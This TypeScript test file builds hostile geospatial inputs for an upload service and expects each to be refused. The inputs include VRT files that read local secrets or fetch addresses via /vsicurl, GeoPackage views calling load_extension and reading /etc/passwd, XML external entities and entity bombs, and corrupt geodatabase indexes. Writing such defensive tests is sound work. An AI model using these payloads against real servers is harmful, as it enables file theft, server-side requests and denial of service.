import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { makeGdb, zipGdb } from '../programs/programs.fixtures/make-gdb.ts';
import { testAttacks } from './security.fixtures/attack-tests.ts';
import type { Attack } from './security.fixtures/build-attacks.ts';
import { copyFixture } from './security.fixtures/sources.ts';

const vrt = (source: string): string =>
  `<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>${source}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>`;
const unreadable = /^source\./;
const point = { type: 'Feature', properties: { nom: 'a' }, geometry: { type: 'Point', coordinates: [4, 49] } };
const geojson = (more: object = {}): string => JSON.stringify({ type: 'FeatureCollection', ...more, features: [point] });

/** A sound GeoPackage after some words of SQL. */
async function geopackage(path: string, ...sql: string[]): Promise<Buffer> {
  await copyFixture('zonage.gpkg', path);
  const database = new DatabaseSync(path, { defensive: false });
  for (const each of sql) database.exec(each);
  database.close();
  return readFileSync(path);
}

/** A virtual table written straight into the schema: SQLite itself may not know its module. */
const virtual = (name: string, module: string): string[] => [
  'PRAGMA writable_schema = ON',
  `INSERT INTO sqlite_master VALUES ('table', '${name}', '${name}', 0, 'CREATE VIRTUAL TABLE ${name} USING ${module.replaceAll("'", "''")}')`,
  `INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('${name}', 'attributes', '${name}')`,
];
const view = (name: string, query: string): string[] => [
  `CREATE VIEW ${name} AS ${query}`,
  `INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('${name}', 'attributes', '${name}')`,
];

/** A file geodatabase of points, the first of which says more than the others. */
const geodatabase = (path: string): string =>
  makeGdb(`${path}.gdb`, {
    name: 'points',
    geometry: 'POINT',
    rows: Array.from({ length: 200 }, (_, index) => ({ wkt: 'POINT (770000 6900000)', nom: index === 0 ? 'a'.repeat(9000) : 'b' })),
  });

const kml = (inside: string, head = ''): string =>
  `<?xml version="1.0"?>${head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>${inside}<Placemark><name>a</name><Point><coordinates>4,49</coordinates></Point></Placemark></Document></kml>`;
const gml = (attributes: string, inside: string, head = ''): string =>
  `<?xml version="1.0"?>${head}<c xmlns:gml="http://www.opengis.net/gml/3.2" ${attributes}><gml:featureMember><parc><nom>${inside}</nom><gml:geometryProperty><gml:Point srsName="EPSG:4326"><gml:pos>4 49</gml:pos></gml:Point></gml:geometryProperty></parc></gml:featureMember></c>`;
const gpx = (head: string, name: string): string =>
  `<?xml version="1.0"?>${head}<gpx version="1.1" creator="a" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="49" lon="4"><name>${name}</name></wpt></gpx>`;
/** Entities that each name the one before ten times. */
const laughs = (root: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY e0 "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`).join('')}]>`;
const external = (root: string, address: string): string => `<!DOCTYPE ${root} [<!ENTITY x SYSTEM "${address}">]>`;

const attacks: Attack[] = [
  ...['geojson', 'csv', 'json', 'gpkg'].map((extension): Attack => ({
    // attack: a virtual format of vectors over a local file
    name: `OGR VRT of a local file, called .${extension}`,
    file: `source.${extension}`,
    make: ({ secretFile }) => vrt(secretFile),
    refusedBy: unreadable,
  })),
  // attack: a virtual format of vectors over an address
  { name: 'OGR VRT that fetches', file: 'source.gml', make: ({ address }) => vrt(`/vsicurl/${address}/a.csv`), refusedBy: unreadable },
  {
    // attack: a local file sent out as headers
    name: 'OGR VRT that sends a local file as headers',
    file: 'source.kml',
    make: ({ address, secretFile }) => vrt(`/vsicurl?header_file=${secretFile}&amp;url=${address}/a.csv`),
    refusedBy: unreadable,
  },
  {
    // attack: a virtual format of images over raw bytes
    name: 'raster VRT with raw bytes, called .tif',
    file: 'source.tif',
    make: ({ secretFile }) =>
      `<VRTDataset rasterXSize="16" rasterYSize="1"><VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand"><SourceFilename>${secretFile}</SourceFilename></VRTRasterBand></VRTDataset>`,
    refusedBy: unreadable,
  },
  {
    // attack: a map service that is called an image
    name: 'a web map service, called .tif',
    file: 'source.tif',
    make: ({ address }) => `<GDAL_WMS><Service name="TMS"><ServerUrl>${address}/\${z}/\${x}/\${y}.png</ServerUrl></Service></GDAL_WMS>`,
    refusedBy: unreadable,
  },
  ...(['link', 'URL', 'name'] as const).map((type): Attack => ({
    // attack: a coordinate system by its address
    name: `GeoJSON with a coordinate system by ${type}`,
    file: 'source.geojson',
    make: ({ address }) =>
      geojson({
        crs: { type, properties: type === 'name' ? { name: address } : { href: `${address}/crs`, url: `${address}/crs`, type: 'ogcwkt' } },
      }),
    refusedBy: unreadable,
  })),
  {
    // attack: a virtual table over a local file
    name: 'GeoPackage with VirtualText over a local file',
    file: 'source.gpkg',
    make: ({ secretFile }, path) =>
      geopackage(path, ...virtual('fuite', `VirtualText('${secretFile}', 'UTF-8', 1, POINT, DOUBLEQUOTE, ',')`)),
    refusedBy: /^source\.geopackage-virtual$/,
  },
  {
    // attack: a virtual table over an address
    name: 'GeoPackage with VirtualOGR over an address',
    file: 'source.gpkg',
    make: ({ address }, path) => geopackage(path, ...virtual('fuite', `VirtualOGR('/vsicurl/${address}/a.csv')`)),
    refusedBy: /^source\.geopackage-virtual$/,
  },
  ...[
    `SELECT load_extension('/tmp/x.so') AS a`,
    `SELECT gdal_get_pixel_value('/etc/passwd', 1, 'pixel', 0, 0) AS a`,
    `SELECT ogr_datasource_load_layers('/etc/passwd') AS a`,
    'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n',
  ].map((query): Attack => ({
    // attack: a view that calls a function of the reader, or never ends
    name: `GeoPackage with a view: ${query.slice(0, 45)}`,
    file: 'source.gpkg',
    make: (_, path) => geopackage(path, ...view('vue', query)),
    refusedBy: /^source\.geopackage-view$/,
  })),
  {
    // attack: a catalogue of tables that never ends
    name: 'GeoPackage whose catalogue is an endless view',
    file: 'source.gpkg',
    make: (_, path) =>
      geopackage(
        path,
        'ALTER TABLE gpkg_contents RENAME TO contenu',
        'CREATE VIEW gpkg_contents AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS table_name, i AS data_type FROM n',
      ),
    refusedBy: /^source\.geopackage-view$/,
  },
  {
    name: 'GeoPackage with a trigger of its own',
    file: 'source.gpkg',
    make: (_, path) => geopackage(path, 'CREATE TRIGGER piege AFTER INSERT ON gpkg_contents BEGIN DELETE FROM gpkg_contents; END'),
    refusedBy: /^source\.geopackage-trigger$/,
  },
  {
    // attack: a file by an entity of XML
    name: 'KML that includes a file by an entity',
    file: 'source.kml',
    make: ({ secretFile }) => kml('<name>&x;</name>', external('kml', `file://${secretFile}`)),
    refusedBy: /^source\.xml-doctype$/,
  },
  {
    name: 'GML that includes a file by an entity',
    file: 'source.gml',
    make: ({ secretFile }) => gml('', '&x;', external('c', `file://${secretFile}`)),
    refusedBy: /^source\.xml-doctype$/,
  },
  {
    name: 'GPX that includes an address by an entity',
    file: 'source.gpx',
    make: ({ address }) => gpx(external('gpx', `${address}/x`), '&x;'),
    refusedBy: /^source\.xml-doctype$/,
  },
  {
    name: 'KML with entities that multiply',
    file: 'source.kml',
    make: () => kml('<name>&e9;</name>', laughs('kml')),
    refusedBy: /^source\.xml-doctype$/,
  },
  {
    // attack: entities that multiply
    name: 'GML with entities that multiply',
    file: 'source.gml',
    make: () => gml('', '&e9;', laughs('c')),
    refusedBy: /^source\.xml-doctype$/,
  },
  {
    name: 'GPX with entities that multiply',
    file: 'source.gpx',
    make: () => gpx(laughs('gpx'), '&e9;'),
    refusedBy: /^source\.xml-doctype$/,
  },
  {
    // attack: links to the network in XML
    name: 'KML that links to the network',
    file: 'source.kml',
    make: ({ address }) => kml(`<NetworkLink><Link><href>${address}/a.kml</href></Link></NetworkLink>`),
    features: 1,
  },
  {
    // attack: schemas by address in XML
    name: 'GML whose schema is an address',
    file: 'source.gml',
    make: ({ address }) =>
      gml(
        `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xlink="http://www.w3.org/1999/xlink" xsi:schemaLocation="a ${address}/a.xsd" xlink:href="${address}/b"`,
        'a',
      ),
    features: 1,
  },
  {
    // attack: files of others in the folder of a geodatabase
    name: 'file geodatabase with a virtual format beside its tables',
    file: 'source.zip',
    make: ({ secretFile, address }, path) =>
      zipGdb(
        geodatabase(path),
        undefined,
        { name: 'source.zip.gdb/a0000000a.vrt', content: vrt(secretFile) },
        { name: 'source.zip.gdb/points.gdbtable', content: vrt(`/vsicurl/${address}/a.csv`) },
      ),
    features: 200,
  },
  {
    // attack: a virtual format for a table of a geodatabase
    name: 'file geodatabase with a virtual format for a table',
    file: 'source.zip',
    make: ({ secretFile }, path) => {
      const gdb = geodatabase(path);
      writeFileSync(join(gdb, 'a00000009.gdbtable'), vrt(secretFile));
      return zipGdb(gdb);
    },
    refusedBy: /^source\.gdb-version$/,
  },
  {
    // attack: rows of a geodatabase that are one and the same
    name: 'file geodatabase whose rows are all the same bytes',
    file: 'source.zip',
    make: (_, path) => {
      const gdb = geodatabase(path);
      const index = join(gdb, 'a00000009.gdbtablx');
      const bytes = readFileSync(index);
      const width = bytes.readUInt32LE(12);
      for (let row = 1; row < 200; row += 1) bytes.copy(bytes, 16 + row * width, 16, 16 + width);
      writeFileSync(index, bytes);
      return zipGdb(gdb);
    },
    refusedBy: /^source\.gdb-overlap$/,
  },
  {
    // attack: rows of a geodatabase beyond its end
    name: 'file geodatabase that claims rows beyond its end',
    file: 'source.zip',
    make: (_, path) => {
      const gdb = geodatabase(path);
      const index = join(gdb, 'a00000009.gdbtablx');
      const bytes = readFileSync(index);
      bytes.fill(0x7f, 16, 16 + bytes.readUInt32LE(12));
      writeFileSync(index, bytes);
      return zipGdb(gdb);
    },
    refusedBy: /^source\.gdb-short$/,
  },
  {
    // attack: arrays that nest
    name: 'GeoJSON of 100,000 nested arrays',
    file: 'source.geojson',
    make: () => geojson({ a: 0 }).replace('"a":0', `"a":${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    refusedBy: unreadable,
  },
  {
    // attack: geometries that nest
    name: 'GeoJSON of 20,000 nested collections',
    file: 'source.geojson',
    make: () => {
      const nested = `${'{"type":"GeometryCollection","geometries":['.repeat(20_000)}${']}'.repeat(20_000)}`;
      return `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":${nested}}]}`;
    },
    refusedBy: unreadable,
  },
];

testAttacks(attacks);
